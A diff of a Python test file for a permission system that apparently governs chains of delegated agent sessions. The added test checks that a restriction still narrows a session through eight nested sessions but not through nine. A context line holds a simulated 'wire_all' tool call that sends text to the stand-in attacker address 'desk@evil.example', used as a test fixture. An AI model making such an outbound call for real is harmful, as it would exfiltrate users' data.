@@ -96,6 +96,20 @@ def test_the_root_narrows_below_any_number_of_sessions() -> None:
     assert "action_not_allowed" in against(run)[0]
 
 
+@pytest.mark.parametrize(("above", "narrows"), [(8, True), (9, False)])
+def test_the_nearest_eight_sessions_above_narrow(above: int, narrows: bool) -> None:
+    chain = [TOP, *(f"m{n}" for n in range(above + 1))]
+    run = play(
+        declared(TOP),
+        *(
+            declared(child, {"actions": ["read"]} if child == "m0" else None, parent=parent)
+            for parent, child in pairwise(chain)
+        ),
+        called(chain[-1], 1),
+    )
+    assert ("action_not_allowed" in against(run)[0]) == narrows
+
+
 @pytest.mark.parametrize("parent", [None, "nobody"])
 def test_a_revocation_of_the_root_reaches_whoever_names_another_parent(parent: str | None) -> None:
     drifts = b.called(TOP, 1, tool="wire_all", arguments={"to": "desk@evil.example", "text": "zq"})
